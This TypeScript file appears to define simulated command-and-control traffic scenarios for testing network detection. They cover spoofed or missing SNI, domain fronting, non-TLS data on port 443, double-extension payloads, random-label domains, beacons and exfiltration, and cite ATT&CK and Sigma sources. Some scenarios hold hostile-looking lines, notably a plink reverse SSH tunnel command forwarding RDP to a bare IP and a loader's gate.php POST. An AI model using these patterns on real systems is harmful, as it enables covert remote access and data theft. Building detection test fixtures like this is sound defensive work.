/**
 * C2 through CONNECT tunnels: TLS to bare IPs with no SNI or with a well-known SNI, SNI differing from the
 * CONNECT host, non-TLS bytes on 443, double-extension payloads on uncommon TLS ports, long random labels,
 * TLS beacons and TLS exfiltration.
 */
import { ALPHA } from '../rng.js';
import type { Scenario } from '../types.js';
import { every, EXPLORER, home, SYS32, SYSTEM, WHY } from './kit.js';

const OTRF = 'OTRF/Security-Datasets (MIT) @d9d40ef1, via /work/shared/telemetry/sysmon-otrf-samples.jsonl';
const SIGMA = (id: string, title: string): string => `SigmaHQ ${id} "${title}" (DRL-1.1)`;
const RFC6066 = 'RFC 6066 §3 (SNI carries host names only; an IP-literal client sends none)';

const noSni: Scenario[] = [
  {
    id: 'c2-tls-ip-nosni-meterpreter-https',
    label: 'c2',
    cls: 'tls-ip-no-sni',
    title: 'Meterpreter reverse_https (WinInet/SChannel) to a bare IP on 443, no SNI',
    sources: ['rapid7/metasploit-framework payload/windows/x64/meterpreter/reverse_https (LHOST an IP)', RFC6066],
    expect: [WHY.sni, WHY.bareIp],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\Downloads\\setup_x64.exe`, parentImage: EXPLORER });
      const ip = ctx.lab.bareIp('msf-https');
      for (let i = 0; i < 3; i++) {
        await p.tls({ connect: `${ip}:443`, hello: 'schannel', upload: [ctx.rng.int(300, 900)], server: { perChunkReply: 180 } });
        await ctx.sleep(ctx.rng.int(600, 1400));
      }
    },
  },
  {
    id: 'c2-tls-ip-nosni-sliver-mtls-8888',
    label: 'c2',
    cls: 'tls-ip-no-sni',
    title: 'Sliver mTLS implant (Go crypto/tls) to a bare IP on 8888, no SNI, long session',
    sources: ['BishopFox/sliver wiki "Getting Started" (mtls listener, default port 8888)', RFC6066],
    expect: [WHY.sni, WHY.bareIp, WHY.port],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\IMPRESSED_METHANE.exe`, parentImage: EXPLORER });
      const ip = ctx.lab.bareIp('sliver-mtls');
      await p.tls({ connect: `${ip}:8888`, hello: 'go', upload: [120, 120, 2400, 120], server: { perChunkReply: 96 }, holdMs: 1500 });
    },
  },
  {
    id: 'c2-tls-ip-nosni-pyinstaller-rat',
    label: 'c2',
    cls: 'tls-ip-no-sni',
    title: 'PyInstaller RAT (python ssl) from %TEMP%\\_MEI… to a bare IP on 443, no SNI',
    sources: ['PyInstaller one-file bootloader extracts to %TEMP%\\_MEI<pid> (pyinstaller.org "Operating mode")', RFC6066],
    expect: [WHY.sni, WHY.bareIp],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\_MEI48122\\winsvc.exe`, parentImage: `${home(ctx.host)}\\Downloads\\winsvc.exe` });
      const ip = ctx.lab.bareIp('pyrat');
      for (let i = 0; i < 2; i++) {
        await p.tls({ connect: `${ip}:443`, hello: 'python', upload: [ctx.rng.int(200, 600)] });
        await ctx.sleep(ctx.rng.int(800, 1500));
      }
    },
  },
];

const wellKnownSni: Scenario[] = [
  {
    id: 'c2-tls-ip-sni-www-microsoft-com',
    label: 'c2',
    cls: 'tls-ip-wellknown-sni',
    title: 'Fake AcroUpdate.exe in %APPDATA% CONNECTs to a bare IP, presents SNI www.microsoft.com',
    sources: ['MITRE ATT&CK T1001.003 (Protocol Impersonation)', RFC6066],
    expect: [WHY.sni],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Roaming\\Adobe\\AcroUpdate.exe`, parentImage: EXPLORER });
      const ip = ctx.lab.bareIp('sni-microsoft');
      for (let i = 0; i < 3; i++) {
        await p.tls({ connect: `${ip}:443`, sni: 'www.microsoft.com', hello: 'schannel', upload: [ctx.rng.int(300, 800)] });
        await ctx.sleep(ctx.rng.int(700, 1600));
      }
    },
  },
  {
    id: 'c2-tls-ip-sni-www-google-com-go',
    label: 'c2',
    cls: 'tls-ip-wellknown-sni',
    title: 'Go implant CONNECTs to a bare IP and presents SNI www.google.com',
    sources: ['MITRE ATT&CK T1001.003', RFC6066],
    expect: [WHY.sni],
    async play(ctx) {
      const p = ctx.proc({ image: 'C:\\ProgramData\\Intel\\igfxtray64.exe', parentImage: `${SYS32}\\services.exe`, user: SYSTEM });
      const ip = ctx.lab.bareIp('sni-google');
      for (let i = 0; i < 2; i++) {
        await p.tls({ connect: `${ip}:443`, sni: 'www.google.com', hello: 'go', upload: [ctx.rng.int(200, 600)] });
        await ctx.sleep(ctx.rng.int(800, 1500));
      }
    },
  },
  {
    id: 'c2-tls-ip-sni-outlook-rundll32',
    label: 'c2',
    cls: 'tls-ip-wellknown-sni',
    title: 'rundll32 C:\\ProgramData\\…\\x.dll,Start CONNECTs to a bare IP with SNI outlook.office365.com',
    sources: [SIGMA('cdc8da7d-c303-42f8-b08c-b4ab47230263', 'Rundll32 Internet Connection'), 'MITRE ATT&CK T1001.003'],
    expect: [WHY.sni, WHY.lolbin],
    async play(ctx) {
      const p = ctx.proc({ image: `${SYS32}\\rundll32.exe`, commandLine: 'rundll32.exe C:\\ProgramData\\Oracle\\Java\\jusched.dll,Start', parentImage: `${SYS32}\\svchost.exe`, originalFileName: 'RUNDLL32.EXE' });
      const ip = ctx.lab.bareIp('sni-outlook');
      await p.tls({ connect: `${ip}:443`, sni: 'outlook.office365.com', hello: 'schannel-alpn', upload: [700, 300] });
    },
  },
];

const fronting: Scenario[] = [
  {
    id: 'c2-sni-fronting-aspnetcdn-azureedge',
    label: 'c2',
    cls: 'sni-fronting',
    title: 'CONNECT ajax.aspnetcdn.com:443 carrying SNI cdn-relay-4421.azureedge.net',
    sources: ['MITRE ATT&CK T1090.004 (Domain Fronting)', SIGMA('8cb4d14e-776e-43c2-8fb9-91e7fcea32b4', 'Potentially Suspicious Azure Front Door Connection')],
    expect: [WHY.sni, WHY.fronting],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Microsoft\\Edge\\msedge_update.exe`, parentImage: EXPLORER });
      for (let i = 0; i < 3; i++) {
        await p.tls({ connect: 'ajax.aspnetcdn.com:443', sni: 'cdn-relay-4421.azureedge.net', hello: 'schannel', upload: [ctx.rng.int(300, 900)] });
        await ctx.sleep(ctx.rng.int(600, 1400));
      }
    },
  },
  {
    id: 'c2-sni-fronting-bing-fastly',
    label: 'c2',
    cls: 'sni-fronting',
    title: 'Go implant CONNECTs www.bing.com:443, presents SNI api-sync.edge-relay-cdn.com',
    sources: ['MITRE ATT&CK T1090.004'],
    expect: [WHY.sni, WHY.fronting],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Programs\\Sync\\syncd.exe`, parentImage: EXPLORER });
      for (let i = 0; i < 2; i++) {
        await p.tls({ connect: 'www.bing.com:443', sni: 'api-sync.edge-relay-cdn.com', hello: 'go', upload: [ctx.rng.int(300, 900)] });
        await ctx.sleep(ctx.rng.int(600, 1400));
      }
    },
  },
  {
    id: 'c2-sni-fronting-google-appspot',
    label: 'c2',
    cls: 'sni-fronting',
    title: 'Python agent CONNECTs www.google.com:443, presents SNI sync-relay-77.appspot.com',
    sources: ['MITRE ATT&CK T1090.004', 'Fifield et al., "Blocking-resistant communication through domain fronting" (PETS 2015)'],
    expect: [WHY.sni, WHY.fronting],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\_MEI2210\\agent.exe`, parentImage: `${home(ctx.host)}\\Downloads\\agent.exe` });
      await p.tls({ connect: 'www.google.com:443', sni: 'sync-relay-77.appspot.com', hello: 'python', upload: [500, 500] });
    },
  },
];

const notTls: Scenario[] = [
  {
    id: 'c2-nontls-443-custom-binary',
    label: 'c2',
    cls: 'non-tls-443',
    title: 'Implant in C:\\Users\\Public\\Documents speaks a length-prefixed XOR protocol on port 443',
    sources: ['MITRE ATT&CK T1571 (Non-Standard Port) / T1095 (Non-Application Layer Protocol)', SIGMA('bcb03938-9f8b-487d-8d86-e480691e1d71', 'Network Connection Initiated From Users\\Public Folder')],
    expect: [WHY.notTls],
    async play(ctx) {
      const p = ctx.proc({ image: 'C:\\Users\\Public\\Documents\\svc.exe', parentImage: `${SYS32}\\cmd.exe` });
      const frame = (n: number): Buffer => {
        const b = Buffer.alloc(4 + n);
        b.writeUInt32LE(n, 0);
        ctx.rng.bytes(n).copy(b, 4);
        return b;
      };
      await p.raw({ connect: 'cdn-edge-update.com:443', send: [frame(64), frame(300), frame(1200)], server: { perChunkReply: 80 } });
    },
  },
  {
    id: 'c2-nontls-443-plain-http-gate',
    label: 'c2',
    cls: 'non-tls-443',
    title: 'Loader tunnels plain HTTP POST /gate.php through CONNECT …:443',
    sources: ['MITRE ATT&CK T1071.001 / T1571', 'Commodity loaders (e.g. Pony/Smoke "gate.php" panels)'],
    expect: [WHY.notTls],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Roaming\\Microsoft\\Windows\\Templates\\wintmp.exe`, parentImage: EXPLORER });
      const body = `data=${encodeURIComponent(ctx.rng.bytes(300).toString('base64'))}`;
      const req = `POST /gate.php HTTP/1.1\r\nHost: panel-stat-counter.com\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
      await p.raw({ connect: 'panel-stat-counter.com:443', send: [req], server: { perChunkReply: 200 } });
    },
  },
  {
    id: 'c2-nontls-443-reverse-ssh-plink',
    label: 'c2',
    cls: 'non-tls-443',
    title: 'plink.exe from C:\\Users\\Public opens an SSH reverse tunnel to a bare IP on 443',
    sources: [SIGMA('5f699bc5-5446-4a4a-a0b7-5ef2885a3eb4', 'RDP Over Reverse SSH Tunnel'), 'RFC 4253 §4.2 (SSH identification string)', 'MITRE ATT&CK T1572 (Protocol Tunneling)'],
    expect: [WHY.notTls, WHY.bareIp],
    async play(ctx) {
      const ip = ctx.lab.bareIp('plink');
      const p = ctx.proc({ image: 'C:\\Users\\Public\\plink.exe', commandLine: `plink.exe -ssh -P 443 -l tunnel -pw ******** -R 127.0.0.1:3390:127.0.0.1:3389 ${ip}`, parentImage: `${SYS32}\\cmd.exe` });
      await p.raw({ connect: `${ip}:443`, send: ['SSH-2.0-PuTTY_Release_0.80\r\n', ctx.rng.bytes(1100), ctx.rng.bytes(300), ctx.rng.bytes(4000)], server: { banner: 'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n', perChunkReply: 700 }, holdMs: 1000 });
    },
  },
];

const doubleExt: Scenario[] = [
  {
    id: 'c2-dblext-invoice-pdf-exe-2443',
    label: 'c2',
    cls: 'double-ext-port',
    title: 'Invoice_2024-0311.pdf.exe in Downloads connects with TLS to port 2443',
    sources: ['MITRE ATT&CK T1036.007 (Double File Extension)', SIGMA('4b89abaa-99fe-4232-afdd-8f9aa4d20382', 'Potentially Suspicious Malware Callback Communication') + ' (2443 is on its port list)'],
    expect: [WHY.doubleExt, WHY.port, WHY.payloadPath],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\Downloads\\Invoice_2024-0311.pdf.exe`, parentImage: EXPLORER });
      for (let i = 0; i < 2; i++) {
        await p.tls({ connect: 'billing-docs-portal.com:2443', hello: 'schannel', upload: [ctx.rng.int(400, 900)] });
        await ctx.sleep(ctx.rng.int(500, 1200));
      }
    },
  },
  {
    id: 'c2-dblext-jpeg-exe-4433',
    label: 'c2',
    cls: 'double-ext-port',
    title: 'happy_image.jpeg.exe (SFX) drops winx64_payload.exe in %TEMP%\\RarSFX1, TLS to a bare IP on 4433',
    sources: [`${OTRF} metasploit_procdump_lsass_memory_dump.zip (winx64_payload.exe, parent happy_image.jpeg.exe, → 10.0.5.13:4433)`, SIGMA('4b89abaa-99fe-4232-afdd-8f9aa4d20382', 'Potentially Suspicious Malware Callback Communication (4433)')],
    expect: [WHY.doubleExt, WHY.port, WHY.payloadPath],
    async play(ctx) {
      const user = home(ctx.host);
      const p = ctx.proc({ image: `C:\\Users\\${user.slice(9, 13).toUpperCase()}~1\\AppData\\Local\\Temp\\RarSFX1\\winx64_payload.exe`, parentImage: `${user}\\Downloads\\happy_image.jpeg.exe`, parentCommandLine: `"${user}\\Downloads\\happy_image.jpeg.exe"` });
      const ip = ctx.lab.bareIp('msf-4433');
      await p.tls({ connect: `${ip}:4433`, hello: 'schannel', upload: [600, 300, 2000], server: { perChunkReply: 400 } });
    },
  },
  {
    id: 'c2-dblext-docx-scr-7443',
    label: 'c2',
    cls: 'double-ext-port',
    title: 'Scan_Document.docx.scr opened from a WinRAR temp folder, TLS to port 7443',
    sources: ['MITRE ATT&CK T1036.007', 'WinRAR extracts opened archive members to %TEMP%\\Rar$EXa<pid>.<n>'],
    expect: [WHY.doubleExt, WHY.port, WHY.payloadPath],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\Rar$EXa5412.31066\\Scan_Document.docx.scr`, parentImage: 'C:\\Program Files\\WinRAR\\WinRAR.exe', commandLine: '"Scan_Document.docx.scr" /S' });
      for (let i = 0; i < 2; i++) {
        await p.tls({ connect: 'doc-scan-services.net:7443', hello: 'schannel', upload: [ctx.rng.int(400, 900)] });
        await ctx.sleep(ctx.rng.int(500, 1200));
      }
    },
  },
];

const longLabel: Scenario[] = [
  {
    id: 'c2-long-label-go-tls',
    label: 'c2',
    cls: 'long-random-label',
    title: 'Go implant resolves and beacons to a 45-char random alphanumeric label under .xyz',
    sources: ['SigmaHQ 14aa0d9e-c70a-4a49-bdc1-e5cbc4fc6af7 "Large domain name request" (DRL-1.1)', 'MITRE ATT&CK T1568 (Dynamic Resolution)'],
    expect: [WHY.longLabel],
    async play(ctx) {
      const name = `${ctx.rng.chars(ALPHA.lowerAlnum, 45)}.xyz`;
      ctx.lab.addressOf(name);
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\GRAVE_SPARROW.exe`, parentImage: EXPLORER });
      await p.dns({ name });
      for (let i = 0; i < 2; i++) {
        await p.tls({ connect: `${name}:443`, hello: 'go', upload: [ctx.rng.int(200, 500)] });
        await ctx.sleep(ctx.rng.int(600, 1200));
      }
    },
  },
  {
    id: 'c2-long-label-http-poll-top',
    label: 'c2',
    cls: 'long-random-label',
    title: 'Payload polls http://<40-char random label>.top/ over plain HTTP',
    sources: ['SigmaHQ 14aa0d9e-c70a-4a49-bdc1-e5cbc4fc6af7 "Large domain name request" (DRL-1.1)', SIGMA('00d0b5ab-1f55-4120-8e83-487c0a7baf19', 'Download From Suspicious TLD - Blacklist')],
    expect: [WHY.longLabel],
    async play(ctx) {
      const name = `${ctx.rng.chars(ALPHA.lowerAlnum, 40)}.top`;
      ctx.lab.addressOf(name);
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Roaming\\svcnet\\svcnet.exe`, parentImage: EXPLORER });
      await p.dns({ name });
      for (let i = 0; i < 3; i++) {
        await p.http({ url: `http://${name}/`, headers: [['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'], ['Accept', '*/*']] });
        await ctx.sleep(ctx.rng.int(500, 1500));
      }
    },
  },
  {
    id: 'c2-long-label-azurewebsites',
    label: 'c2',
    cls: 'long-random-label',
    title: 'Non-browser process reaches a 38-char random label under azurewebsites.net',
    sources: [SIGMA('5c80b618-0dbb-46e6-acbb-03d90bcb6d83', 'Network Connection Initiated To AzureWebsites.NET By Non-Browser Process'), 'MITRE ATT&CK T1102 (Web Service)'],
    expect: [WHY.longLabel],
    async play(ctx) {
      const name = `${ctx.rng.chars(ALPHA.lowerAlnum, 38)}.azurewebsites.net`;
      ctx.lab.addressOf(name);
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Packages\\Updater\\upd.exe`, parentImage: EXPLORER });
      await p.dns({ name });
      await p.tls({ connect: `${name}:443`, hello: 'schannel-alpn', upload: [600, 400] });
    },
  },
];

const tlsBeacons: Scenario[] = [
  {
    id: 'c2-beacon-https-schannel-1s',
    label: 'c2',
    cls: 'beacon',
    title: 'Implant in %APPDATA%\\Vendor beacons over TLS every 1.0 s (±5 %), identical small exchanges',
    sources: ['RITA beacon analysis (activecm/rita)', 'Cobalt Strike default sleeptime/jitter (default.profile: jitter 0)'],
    expect: [WHY.beacon],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Roaming\\Lenovo\\lnvsync.exe`, parentImage: EXPLORER });
      await every(ctx, 8, 1000, 0.05, () => p.tls({ connect: 'api.cloud-metrics-svc.com:443', hello: 'schannel', upload: [220], server: { firstReply: 2600, perChunkReply: 90 } }));
    },
  },
  {
    id: 'c2-beacon-go-jitter30',
    label: 'c2',
    cls: 'beacon',
    title: 'Go implant beacons over TLS every 2 s with 30 % jitter',
    sources: ['Sliver beacon mode (--seconds, --jitter) (BishopFox/sliver wiki "Beacons vs Sessions")', 'RITA beacon analysis'],
    expect: [WHY.beacon],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\LONELY_OTTER.exe`, parentImage: EXPLORER });
      await every(ctx, 7, 2000, 0.3, () => p.tls({ connect: 'edge-sync-service.net:443', hello: 'go', upload: [ctx.rng.int(150, 260)] }));
    },
  },
  {
    id: 'c2-exfil-tls-updater-4k',
    label: 'c2',
    cls: 'exfil-beacon',
    title: 'updater.exe in %LOCALAPPDATA%\\Programs uploads 4 KB over a new TLS connection every ~1.2 s',
    sources: ['MITRE ATT&CK T1041, T1029', 'RITA beacon analysis'],
    expect: [WHY.beacon, WHY.upload, WHY.payloadPath],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Programs\\Updater\\updater.exe`, parentImage: EXPLORER });
      await every(ctx, 8, 1200, 0.2, () => p.tls({ connect: 'files-backup-sync.com:443', hello: 'schannel', upload: [4096], server: { perChunkReply: 60 } }));
    },
  },
];

export const c2TlsScenarios: readonly Scenario[] = [...noSni, ...wellKnownSni, ...fronting, ...notTls, ...doubleExt, ...longLabel, ...tlsBeacons];
